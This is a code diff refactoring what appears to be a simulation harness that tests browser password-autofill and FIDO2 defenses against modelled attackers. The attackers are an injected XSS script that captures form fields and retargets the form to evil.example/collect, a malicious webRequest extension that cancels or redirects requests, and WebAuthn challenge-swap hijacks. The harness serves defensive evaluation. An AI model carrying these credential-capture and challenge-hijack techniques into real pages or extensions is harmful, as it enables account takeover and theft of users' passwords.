@@ -58,20 +58,25 @@ from .fido2 import (
     RelyingParty,
     response_from_json,
 )
-from .http_model import Origin, Url, _quote_form, sha256_hex
+from .http_model import Origin, Url, holds_secret, sha256_hex
 from .pipeline import (
     EVENT_SUBSTITUTION,
-    EVENT_SUBSTITUTION_REFUSED,
     Cancel,
     DefenseMode,
     Redirect,
     Stage,
     StageView,
-    TranscriptEvent,
 )
 from .rng import derive_seed, substream
-from .session import BrowserSession, FlowResult
-from .sites import LOGIN_CATEGORIES, ServerFarm, SiteProfile, build_login_page, site_vault_entry
+from .session import BrowserSession
+from .sites import (
+    LOGIN_CATEGORIES,
+    REFLECT_PATH,
+    ServerFarm,
+    SiteProfile,
+    build_login_page,
+    site_vault_entry,
+)
 
 __all__ = [
     "AttackOutcome",
@@ -136,6 +141,8 @@ EXPECTED_FIDO2_CELLS: dict[str, dict[str, str]] = {
 
 ATTACKER_EXTENSION_ID = "evil.collector"
 CAPTURE_ORIGIN = Origin("https", "evil.example", 443)
+_STEAL_URL = Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/steal")
+_COLLECT_URL = Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/collect")
 # the webRequest attacker's manifest (frozen, so shared)
 _ATTACKER_MANIFEST = ExtensionManifest(
     ATTACKER_EXTENSION_ID, frozenset({Permission.WEB_REQUEST})
@@ -174,18 +181,11 @@ def find_leaks(
 ) -> tuple[tuple[str, ...], bool]:
     """Scan attacker-visible text for secrets; return digests of any hits.
 
-    Each secret is matched both verbatim and in its form-encoded shape, so
-    secrets survive detection inside percent-encoded request bodies.
+    Each secret is matched by `holds_secret`: verbatim and in its
+    form-encoded shape, so secrets survive detection inside percent-encoded
+    request bodies.
     """
-    leaked: set[str] = set()
-    for secret in secrets:
-        if not secret:
-            continue
-        encoded = _quote_form(secret)
-        for text in observations:
-            if secret in text or encoded in text:
-                leaked.add(secret)
-                break
+    leaked = {secret for secret in secrets if secret and holds_secret(observations, secret)}
     return tuple(sorted(sha256_hex(s) for s in leaked)), bool(leaked)
 
 
@@ -201,136 +201,94 @@ class _ScenarioContext(NamedTuple):
     capture_sink: list[str]
 
 
-class _PasswordAgent:
-    """Shared scaffolding: a plan of moves, executed around the login flow.
+# the moves a page script can make, each a function of (script, ctx)
+def _read_form(script: ScriptHandle, ctx: _ScenarioContext) -> None:
+    for field_name in ("password", "username"):
+        try:
+            script_read_field(script, ctx.page, ctx.form_id, field_name)
+        except KeyError:
+            pass
 
-    An agent has `plans` distinct plans; plan index i runs plan i % plans.
-    """
 
-    plans: int
+def _hook(script: ScriptHandle, ctx: _ScenarioContext) -> None:
+    hook = SubmitHook(kind=HookKind.CAPTURE_FIELDS, sink=script)
+    script_mutate(script, ctx.page, RegisterSubmitHook(ctx.form_id, hook))
 
-    def __init__(self) -> None:
-        self.scripts: list[ScriptHandle] = []
-        self.extension: Optional[Extension] = None
 
-    def pre_autofill(self, ctx: _ScenarioContext) -> None:  # pragma: no cover - default
+def _add_field(script: ScriptHandle, ctx: _ScenarioContext) -> None:
+    try:
+        script_mutate(script, ctx.page, AddField(ctx.form_id, "tracker", FieldKind.HIDDEN, "1"))
+    except DuplicateField:
         pass
 
-    def post_autofill(self, ctx: _ScenarioContext) -> None:  # pragma: no cover - default
+
+def _rename(script: ScriptHandle, ctx: _ScenarioContext) -> None:
+    try:
+        script_mutate(script, ctx.page, RenameField(ctx.form_id, "password", "q"))
+    except (DuplicateField, KeyError):
         pass
 
-    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
-        pass
 
-    def observations(self, ctx: _ScenarioContext) -> list[str]:
-        out: list[str] = []
-        for script in self.scripts:
-            out.extend(script.log)
-        if self.extension is not None:
-            out.extend(str(item) for item in self.extension.observations)
-        out.extend(ctx.capture_sink)
-        return out
-
-    # helpers ---------------------------------------------------------------
-
-    def _read_fields(self, ctx: _ScenarioContext, script: ScriptHandle) -> None:
-        for field_name in ("password", "username"):
-            try:
-                script_read_field(script, ctx.page, ctx.form_id, field_name)
-            except KeyError:
-                pass
+def _retarget(script: ScriptHandle, ctx: _ScenarioContext) -> None:
+    script_mutate(script, ctx.page, SetFormAction(ctx.form_id, _COLLECT_URL))
 
 
-class _FlagAgent(_PasswordAgent):
-    """A plan is the set of MOVES the agent makes. Bit k of the plan index
-    flips MOVES[k] from how PLAN0 sets it, so plan 0 makes the PLAN0 moves."""
+def _read_rendered(script: ScriptHandle, ctx: _ScenarioContext) -> None:
+    read_rendered_text(script, ctx.page)
 
-    MOVES: tuple[str, ...]
-    PLAN0: frozenset[str]
 
-    def __init__(self, plan_index: int) -> None:
-        super().__init__()
-        bits = plan_index % self.plans
+# every script move by the phase it runs in: before autofill, after it, and
+# after the response; within a phase, moves run in this order
+_PHASES = (
+    (("read_pre", _read_form), ("hook_pre", _hook), ("add_field", _add_field)),
+    (("read_post", _read_form), ("hook_post", _hook), ("rename", _rename), ("retarget", _retarget)),
+    (("read_rendered", _read_rendered),),
+)
+
+
+class _ScriptRow(NamedTuple):
+    """A page-script adversary: its script and the moves its plans choose
+    from. Bit k of a plan index flips moves[k] from how plan0 sets it, so
+    plan 0 makes the plan0 moves. Called with a plan index, a row gives the
+    agent that plays that plan."""
+
+    script_id: str
+    provenance: Provenance
+    moves: tuple[str, ...]
+    plan0: frozenset[str]
+
+    @property
+    def plans(self) -> int:
+        return 1 << len(self.moves)
+
+    def __call__(self, plan_index: int) -> "_ScriptAgent":
+        return _ScriptAgent(self, plan_index)
+
+
+class _ScriptAgent:
+    """One page script playing one plan of its row."""
+
+    __slots__ = ("plan", "script")
+
+    def __init__(self, row: _ScriptRow, plan_index: int) -> None:
+        bits = plan_index % row.plans
         self.plan = frozenset(
             move
-            for bit, move in enumerate(self.MOVES)
-            if (move in self.PLAN0) != bool(bits >> bit & 1)
+            for bit, move in enumerate(row.moves)
+            if (move in row.plan0) != bool(bits >> bit & 1)
         )
+        self.script = ScriptHandle(row.script_id, row.provenance)
 
+    def play(self, phase: int, ctx: _ScenarioContext) -> None:
+        if phase == 0:
+            attach_script(ctx.page, self.script)
+        for move, act in _PHASES[phase]:
+            if move in self.plan:
+                act(self.script, ctx)
 
-class _DomObserverAgent(_FlagAgent):
-    """Passive page library: reads what the DOM will give it, nothing more."""
+    def observations(self, ctx: _ScenarioContext) -> list[str]:
+        return [*self.script.log, *ctx.capture_sink]
 
-    adversary = "dom_observer"
-    MOVES = ("read_pre", "read_post", "read_rendered")
-    PLAN0 = frozenset(MOVES)
-    plans = 1 << len(MOVES)
-
-    def pre_autofill(self, ctx: _ScenarioContext) -> None:
-        script = ScriptHandle("analytics.js", Provenance.LIBRARY)
-        attach_script(ctx.page, script)
-        self.scripts.append(script)
-        if "read_pre" in self.plan:
-            self._read_fields(ctx, script)
-
-    def post_autofill(self, ctx: _ScenarioContext) -> None:
-        if "read_post" in self.plan:
-            self._read_fields(ctx, self.scripts[0])
-
-    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
-        if "read_rendered" in self.plan:
-            read_rendered_text(self.scripts[0], ctx.page)
-
-
-class _DomExfiltratorAgent(_FlagAgent):
-    """Injected script with full DOM control over the login page."""
-
-    adversary = "dom_exfiltrator"
-    MOVES = (
-        "read_post", "hook_pre", "hook_post", "rename", "retarget", "add_field", "read_rendered"
-    )
-    # the late submit hook is the strongest move: it fires after any in-page
-    # value swap a defense may have installed
-    PLAN0 = frozenset({"read_post", "hook_post", "read_rendered"})
-    plans = 1 << len(MOVES)
-
-    def _hook(self, ctx: _ScenarioContext) -> None:
-        hook = SubmitHook(kind=HookKind.CAPTURE_FIELDS, sink=self.scripts[0])
-        script_mutate(self.scripts[0], ctx.page, RegisterSubmitHook(ctx.form_id, hook))
-
-    def pre_autofill(self, ctx: _ScenarioContext) -> None:
-        script = ScriptHandle("xss-payload", Provenance.XSS)
-        attach_script(ctx.page, script)
-        self.scripts.append(script)
-        if "hook_pre" in self.plan:
-            self._hook(ctx)
-        if "add_field" in self.plan:
-            try:
-                script_mutate(script, ctx.page, AddField(ctx.form_id, "tracker", FieldKind.HIDDEN, "1"))
-            except DuplicateField:
-                pass
-
-    def post_autofill(self, ctx: _ScenarioContext) -> None:
-        script = self.scripts[0]
-        if "read_post" in self.plan:
-            self._read_fields(ctx, script)
-        if "hook_post" in self.plan:
-            self._hook(ctx)
-        if "rename" in self.plan:
-            try:
-                script_mutate(script, ctx.page, RenameField(ctx.form_id, "password", "q"))
-            except (DuplicateField, KeyError):
-                pass
-        if "retarget" in self.plan:
-            collect = Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/collect")
-            script_mutate(script, ctx.page, SetFormAction(ctx.form_id, collect))
-
-    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
-        if "read_rendered" in self.plan:
-            read_rendered_text(self.scripts[0], ctx.page)
-
-
-_STEAL_URL = Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/steal")
 
 # each blocking move of the webRequest attacker, and the blocking listener
 # it registers at onBeforeRequest; the redirect spares requests already
@@ -347,7 +305,7 @@ _BLOCKING_MOVES = (
 _STAGES = tuple(Stage)
 
 
-class _WebRequestExfiltratorAgent(_PasswordAgent):
+class _WebRequestExfiltratorAgent:
     """Extension with webRequest: listens everywhere, may cancel or redirect.
 
     A plan is a non-empty set of stages to listen at and one blocking move.
@@ -357,16 +315,18 @@ class _WebRequestExfiltratorAgent(_PasswordAgent):
     nothing; `left_out` stops short of leaving out all seven stages.
     """
 
-    adversary = "webrequest_exfiltrator"
     plans = len(_BLOCKING_MOVES) * ((1 << len(_STAGES)) - 1)
 
     def __init__(self, plan_index: int) -> None:
-        super().__init__()
         left_out, move = divmod(plan_index % self.plans, len(_BLOCKING_MOVES))
         self.stages = tuple(s for bit, s in enumerate(_STAGES) if not left_out >> bit & 1)
         self.blocking_move, self.blocking = _BLOCKING_MOVES[move]
+        self.extension: Optional[Extension] = None
 
-    def pre_autofill(self, ctx: _ScenarioContext) -> None:
+    def play(self, phase: int, ctx: _ScenarioContext) -> None:
+        """Install the extension and its listeners before autofill."""
+        if phase != 0:
+            return
         host = ctx.session.host
         self.extension = host.install(_ATTACKER_MANIFEST)
         for stage in self.stages:
@@ -377,10 +337,27 @@ class _WebRequestExfiltratorAgent(_PasswordAgent):
                 ATTACKER_EXTENSION_ID, Stage.ON_BEFORE_REQUEST, blocking, blocking=True
             )
 
+    def observations(self, ctx: _ScenarioContext) -> list[str]:
+        return [*(str(item) for item in self.extension.observations), *ctx.capture_sink]
+
 
 _AGENTS = {
-    "dom_observer": _DomObserverAgent,
-    "dom_exfiltrator": _DomExfiltratorAgent,
+    # passive page library: reads what the DOM will give it, nothing more
+    "dom_observer": _ScriptRow(
+        "analytics.js",
+        Provenance.LIBRARY,
+        ("read_pre", "read_post", "read_rendered"),
+        frozenset({"read_pre", "read_post", "read_rendered"}),
+    ),
+    # injected script with full DOM control over the login page; plan 0's
+    # late submit hook is its strongest move: it fires after any in-page
+    # value swap a defense may have installed
+    "dom_exfiltrator": _ScriptRow(
+        "xss-payload",
+        Provenance.XSS,
+        ("read_post", "hook_pre", "hook_post", "rename", "retarget", "add_field", "read_rendered"),
+        frozenset({"read_post", "hook_post", "read_rendered"}),
+    ),
     "webrequest_exfiltrator": _WebRequestExfiltratorAgent,
 }
 # the largest plan count: this many strategies per cell run every plan
@@ -410,11 +387,11 @@ def run_scenario(scenario: AttackScenario) -> AttackOutcome:
     page, form_id = build_login_page(session, profile)
     ctx = _ScenarioContext(session, page, form_id, capture_sink)
     agent = _AGENTS[scenario.adversary](scenario.strategy_index)
-    agent.pre_autofill(ctx)
+    agent.play(0, ctx)
     session.autofill(page, form_id)
-    agent.post_autofill(ctx)
+    agent.play(1, ctx)
     result = session.submit(page, form_id)
-    agent.post_response(ctx, result)
+    agent.play(2, ctx)
     leaked_digests, leaked = find_leaks([entry.password], agent.observations(ctx))
     # positional: a keyword call to a NamedTuple costs about three times more
     return AttackOutcome(
@@ -450,12 +427,6 @@ class MatrixReport(NamedTuple):
     strategies_per_cell: int
     cells: list[MatrixCell]
 
-    def verdict(self, defense: str, adversary: str) -> str:
-        for cell in self.cells:
-            if cell.defense == defense and cell.adversary == adversary:
-                return cell.verdict
-        raise KeyError((defense, adversary))
-
     def verdicts(self) -> dict[str, dict[str, str]]:
         out: dict[str, dict[str, str]] = {}
         for cell in self.cells:
@@ -463,15 +434,14 @@ class MatrixReport(NamedTuple):
         return out
 
     def mismatches(self, expected: dict[str, dict[str, str]] = EXPECTED_MATRIX) -> list[str]:
+        verdicts = self.verdicts()
         problems = []
         for defense, row in expected.items():
             for adversary, verdict in row.items():
-                try:
-                    got = self.verdict(defense, adversary)
-                except KeyError:
+                got = verdicts.get(defense, {}).get(adversary)
+                if got is None:
                     problems.append(f"{defense}/{adversary}: missing")
-                    continue
-                if got != verdict:
+                elif got != verdict:
                     problems.append(f"{defense}/{adversary}: expected {verdict}, got {got}")
         return problems
 
@@ -502,11 +472,9 @@ class MatrixReport(NamedTuple):
             "",
             "defense".ljust(20) + "".join(a.ljust(width) for a in adversaries),
         ]
-        for defense in self.verdicts():
-            row = defense.ljust(20)
-            for adversary in adversaries:
-                row += self.verdict(defense, adversary).ljust(width)
-            lines.append(row.rstrip())
+        for defense, row in self.verdicts().items():
+            cells = "".join(row[adversary].ljust(width) for adversary in adversaries)
+            lines.append((defense.ljust(20) + cells).rstrip())
         return "\n".join(lines) + "\n"
 
 
@@ -579,7 +547,7 @@ def run_reflection_attack(
     session.autofill(page2, form2)
     script = ScriptHandle("xss-payload", Provenance.XSS)
     attach_script(page2, script)
-    reflect_url = Url(profile.origin.scheme, profile.origin.host, profile.origin.port, "/reflect")
+    reflect_url = Url(profile.origin.scheme, profile.origin.host, profile.origin.port, REFLECT_PATH)
     script_mutate(script, page2, SetFormAction(form2, reflect_url))
     if variant == "rename":
         script_mutate(script, page2, RenameField(form2, "username", "q"))
@@ -589,12 +557,12 @@ def run_reflection_attack(
 
     leaked_digests, leaked = find_leaks([entry.password], list(script.log))
     notes = [f"variant={variant}", f"pinning={'on' if pinning else 'off'}"]
-    # every nonce mode writes its refusal to the transcript, as a browser
-    # event; deliveries are skipped, so no body is hashed for this
-    events = {e.label: e.digest for e in result.transcript.events if type(e) is TranscriptEvent}
-    if EVENT_SUBSTITUTION_REFUSED in events:
-        notes.append(f"refused_by_{events[EVENT_SUBSTITUTION_REFUSED]}")
-    elif EVENT_SUBSTITUTION in events:
+    # every nonce mode writes its refusal or its swap to the transcript as a
+    # browser event; a delivery's label is its stage, and no body is hashed
+    refused_check = result.transcript.refused_check()
+    if refused_check is not None:
+        notes.append(f"refused_by_check={refused_check}")
+    elif any(e.label == EVENT_SUBSTITUTION for e in result.transcript.events):
         notes.append("substitution_approved")
     if result.verdict is not None:
         notes.append(f"verdict={result.verdict}")
@@ -630,13 +598,16 @@ class _CreateHijack:
 
 
 class _AssertHijack:
-    """Swaps the attacker's challenge into whatever the page hands the API."""
+    """Swaps the attacker's challenge into whatever the page hands the API;
+    the signature goes to `captured`, and the page gets junk."""
 
-    def __init__(self, original, attacker_challenge: bytes, script: ScriptHandle):
+    def __init__(
+        self, original, attacker_challenge: bytes, script: ScriptHandle, captured: list[str]
+    ):
         self.original = original
         self.attacker_challenge = attacker_challenge
         self.script = script
-        self.captured: list[str] = []
+        self.captured = captured
 
     def get(self, payload_json: str) -> str:
         self.script.observe(payload_json)
@@ -645,7 +616,7 @@ class _AssertHijack:
         signed = self.original.get(forged.to_json())
         self.script.observe(signed)
         self.captured.append(signed)
-        return "{}"  # the page gets junk; the attacker keeps the signature
+        return "{}"
 
 
 def _out_of_band_finish(farm: ServerFarm, origin: Origin, payload_json: str) -> str:
@@ -663,17 +634,6 @@ def _out_of_band_begin(farm: ServerFarm, origin: Origin, kind: str, username: st
     response, _ = farm.serve(build_request(None, "GET", url, query, 990_001))
     header = response.header(HEADER_REQUEST)
     return header if header is not None else response.body.decode("utf-8")
-
-
-def _account_is_attackers(rp: RelyingParty, username: str, device: AuthenticatorDevice) -> bool:
-    stored = rp.accounts.get(username)
-    return stored is not None and stored.credential_id in device.credentials
-
-
-def _finish_body_value(view: StageView) -> Optional[str]:
-    if view.form is None:
-        return None
-    return next((v for n, v in view.form.entries if n == FINISH_FIELD), None)
 
 
 class _Fido2Setup(NamedTuple):
@@ -701,14 +661,17 @@ def _fido2_setup(
     return _Fido2Setup(farm, session, page, state.rp, profile.origin)
 
 
-def _grab_and_cancel(session: BrowserSession, captured: list[str]):
+def _grab_and_cancel(session: BrowserSession, captured: list[str]) -> Extension:
+    """The attacker's extension cancels the finish POST before it leaves and
+    keeps the finish field of its body."""
     extension = session.host.install(_ATTACKER_MANIFEST)
 
     def on_before_request(view: StageView):
         if view.url.endswith(FINISH_PATH) and view.method == "POST":
-            value = _finish_body_value(view)
-            if value is not None:
-                captured.append(value)
+            for name, value in view.form.entries if view.form is not None else ():
+                if name == FINISH_FIELD:
+                    captured.append(value)
+                    break
             return Cancel("intercepted")
         return None
 
@@ -718,90 +681,72 @@ def _grab_and_cancel(session: BrowserSession, captured: list[str]):
     return extension
 
 
-def _registration_hijack(
-    adversary: str, defense_on: bool, seed: int, secrets: list[str], observations: list[str]
-) -> tuple[bool, list[str]]:
+def _ceremony_hijack(
+    kind: str,
+    adversary: str,
+    defense_on: bool,
+    seed: int,
+    secrets: list[str],
+    observations: list[str],
+    notes: list[str],
+) -> bool:
+    """One ceremony of `kind` under attack, after an honest registration if
+    it is a login. The attacker wins a registration when the victim's
+    account holds its key, and a login when its own finish is accepted."""
+    seed = derive_seed(seed, "fido2", kind)
     setup = _fido2_setup(defense_on, seed, "victim", secrets)
-    attacker_device = AuthenticatorDevice("attacker-device", substream(seed, "attacker-device"))
-    notes: list[str] = []
+    ceremony = setup.session.fido2_register
+    if kind == AUTHENTICATION:
+        honest = ceremony(setup.page, setup.origin, "victim")
+        notes.append(f"honest_registration={honest.verdict}")
+        ceremony = setup.session.fido2_authenticate
+    attacker_device = None
+    if kind == REGISTRATION:
+        attacker_device = AuthenticatorDevice("attacker-device", substream(seed, "attacker-device"))
+    captured: list[str] = []  # what the attacker finishes out of band
 
     if adversary == "fido2_dom":
         script = ScriptHandle("xss-payload", Provenance.XSS)
+        if kind == REGISTRATION:
+            hijack = _CreateHijack(attacker_device, script)
+        else:
+            # the attacker opens its own login transaction directly with the
+            # server; stripping only protects responses that cross the browser
+            setup.rp.witness = None
+            attacker_begin = _out_of_band_begin(setup.farm, setup.origin, AUTHENTICATION, "victim")
+            setup.rp.witness = secrets
+            attacker_challenge = Fido2Request.from_json(attacker_begin).challenge
+            hijack = _AssertHijack(setup.page.webauthn, attacker_challenge, script, captured)
         attach_script(setup.page, script)
-        setup.page.webauthn = _CreateHijack(attacker_device, script)
-        result = setup.session.fido2_register(setup.page, setup.origin, "victim")
+        setup.page.webauthn = hijack
+        result = ceremony(setup.page, setup.origin, "victim")
         observations.extend(script.log)
         notes.append(f"victim_finish={result.verdict}")
-        registered = _account_is_attackers(setup.rp, "victim", attacker_device)
     else:
-        captured: list[str] = []
         extension = _grab_and_cancel(setup.session, captured)
-        setup.session.fido2_register(setup.page, setup.origin, "victim")
+        ceremony(setup.page, setup.origin, "victim")
         observations.extend(str(item) for item in extension.observations)
         observations.extend(captured)
-        registered = False
-        if captured:
+        if captured and kind == REGISTRATION:
+            # the attacker answers the victim's challenge with its own key
             try:
                 challenge = response_from_json(captured[-1]).challenge
             except MalformedPayload:
-                challenge = None
-            if challenge is not None:
+                captured.clear()
+            else:
                 forged = Fido2Request(
-                    kind=REGISTRATION,
-                    challenge=challenge,
-                    rp_id=setup.origin.host,
-                    user_id=b"attacker",
-                    user_name="victim",
+                    REGISTRATION, challenge, setup.origin.host, b"attacker", "victim"
                 )
-                attestation = attacker_device.make_credential(forged)
-                verdict = _out_of_band_finish(setup.farm, setup.origin, attestation.to_json())
-                notes.append(f"attacker_finish={verdict}")
-                registered = verdict == "accepted" and _account_is_attackers(
-                    setup.rp, "victim", attacker_device
-                )
-    return registered, notes
+                captured.append(attacker_device.make_credential(forged).to_json())
 
-
-def _authentication_hijack(
-    adversary: str, defense_on: bool, seed: int, secrets: list[str], observations: list[str]
-) -> tuple[bool, list[str]]:
-    setup = _fido2_setup(defense_on, seed, "victim", secrets)
-    notes: list[str] = []
-
-    honest = setup.session.fido2_register(setup.page, setup.origin, "victim")
-    notes.append(f"honest_registration={honest.verdict}")
-
-    if adversary == "fido2_dom":
-        # the attacker opens its own login transaction directly with the
-        # server; stripping only protects responses that cross the browser
-        setup.rp.witness = None
-        attacker_begin = _out_of_band_begin(setup.farm, setup.origin, AUTHENTICATION, "victim")
-        setup.rp.witness = secrets
-        attacker_challenge = Fido2Request.from_json(attacker_begin).challenge
-        script = ScriptHandle("xss-payload", Provenance.XSS)
-        attach_script(setup.page, script)
-        hijack = _AssertHijack(setup.page.webauthn, attacker_challenge, script)
-        setup.page.webauthn = hijack
-        result = setup.session.fido2_authenticate(setup.page, setup.origin, "victim")
-        observations.extend(script.log)
-        notes.append(f"victim_finish={result.verdict}")
-        login = False
-        if hijack.captured:
-            verdict = _out_of_band_finish(setup.farm, setup.origin, hijack.captured[-1])
-            notes.append(f"attacker_finish={verdict}")
-            login = verdict == "accepted"
-    else:
-        captured: list[str] = []
-        extension = _grab_and_cancel(setup.session, captured)
-        setup.session.fido2_authenticate(setup.page, setup.origin, "victim")
-        observations.extend(str(item) for item in extension.observations)
-        observations.extend(captured)
-        login = False
-        if captured:
-            verdict = _out_of_band_finish(setup.farm, setup.origin, captured[-1])
-            notes.append(f"attacker_finish={verdict}")
-            login = verdict == "accepted"
-    return login, notes
+    verdict = None
+    if captured:
+        verdict = _out_of_band_finish(setup.farm, setup.origin, captured[-1])
+        notes.append(f"attacker_finish={verdict}")
+    if kind == AUTHENTICATION:
+        return verdict == "accepted"
+    stored = setup.rp.accounts.get("victim")
+    return stored is not None and stored.credential_id in attacker_device.credentials
 
 
 def run_fido2_scenario(
@@ -812,11 +757,10 @@ def run_fido2_scenario(
         raise ValueError(f"unknown FIDO2 adversary {adversary!r}")
     secrets: list[str] = []
     observations: list[str] = []
-    registered, notes_a = _registration_hijack(
-        adversary, defense_on, derive_seed(seed, "fido2", "registration"), secrets, observations
-    )
-    login, notes_b = _authentication_hijack(
-        adversary, defense_on, derive_seed(seed, "fido2", "authentication"), secrets, observations
+    notes: list[str] = []
+    registered, login = (
+        _ceremony_hijack(kind, adversary, defense_on, seed, secrets, observations, notes)
+        for kind in (REGISTRATION, AUTHENTICATION)
     )
     leaked_digests, leaked = find_leaks(secrets, observations)
     return AttackOutcome(
@@ -827,5 +771,5 @@ def run_fido2_scenario(
         leaked_digests=leaked_digests,
         attacker_login=login,
         attacker_registered=registered,
-        notes=tuple(notes_a + notes_b),
+        notes=tuple(notes),
     )
